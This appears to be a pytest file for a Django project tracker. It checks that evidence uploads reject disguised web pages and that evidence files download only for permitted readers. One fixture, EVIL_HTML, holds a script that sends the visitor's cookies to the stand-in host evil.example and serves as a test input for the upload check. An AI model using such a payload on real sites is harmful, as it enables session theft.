"""Evidence uploads take documents and photos only (judged by content),
and every evidence file is downloadable through a permission-checked route."""
from __future__ import annotations

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from tracker import services
from tracker.choices import AuditAction, ProjectState
from tracker.models import AuditEvent, Project, RollbackRequest

pytestmark = pytest.mark.django_db

EVIL_HTML = b"<!doctype html><script>document.location='http://evil.example/'+document.cookie</script>"
PNG = b"\x89PNG\r\n\x1a\n" + b"0" * 64


def _started(project_code: str = "LF-2023-018") -> Project:
    return Project.objects.get(code=project_code)


def test_suspend_evidence_that_is_a_web_page_is_refused_and_not_stored(clerk):
    # given a started project and a web page renamed as a photo
    project = Project.objects.filter(state=ProjectState.UNDER_CONSTRUCTION, unit__code="houma").first()
    before = AuditEvent.objects.count()
    # when
    with pytest.raises(services.TransitionRefused) as refused:
        services.project_transition(
            project_id=project.pk, transition="suspend", acting_user=clerk, reason="汛期停工",
            expected_version=project.version, evidence=SimpleUploadedFile("evil.png", EVIL_HTML),
        )
    # then
    assert "只接受" in refused.value.messages[0]
    project.refresh_from_db()
    assert project.state == ProjectState.UNDER_CONSTRUCTION
    assert AuditEvent.objects.count() == before


def test_rollback_evidence_must_be_a_document_or_photo(clerk):
    # given
    project = Project.objects.filter(state=ProjectState.COMPLETED).first()
    # when
    with pytest.raises(ValidationError) as refused:
        services.rollback_request_file(
            project_id=project.pk, transition="reopen", acting_user=clerk, reason="验收未通过",
            evidence=SimpleUploadedFile("evil.html", EVIL_HTML),
        )
    # then
    assert "只接受" in refused.value.messages[0]
    assert not RollbackRequest.objects.filter(project=project).exists()


def test_transition_evidence_downloads_for_readers_of_the_project_only(client, clerk, county_liaison,
                                                                       other_county_liaison):
    # given a 停工 recorded with a site photo on a 侯马市 project
    project = Project.objects.filter(state=ProjectState.UNDER_CONSTRUCTION, unit__code="houma").first()
    services.project_transition(
        project_id=project.pk, transition="suspend", acting_user=clerk, reason="汛期停工",
        expected_version=project.version, evidence=SimpleUploadedFile("现场照片.png", PNG),
    )
    event = AuditEvent.objects.filter(project=project, action=AuditAction.PROJECT_TRANSITION).latest("id")
    url = reverse("tracker:audit_evidence", args=[event.pk])
    # when the project page is read, and the link followed by 侯马市 and by another county
    client.force_login(county_liaison)
    page = client.get(reverse("tracker:project", args=[project.pk])).content.decode()
    own = client.get(url)
    client.force_login(other_county_liaison)
    other = client.get(url)
    # then the page links the checked route (never the unserved media path); only readers get the file
    assert url in page and "/media-not-served/" not in page
    assert own.status_code == 200 and b"".join(own.streaming_content) == PNG
    assert other.status_code in (403, 404)
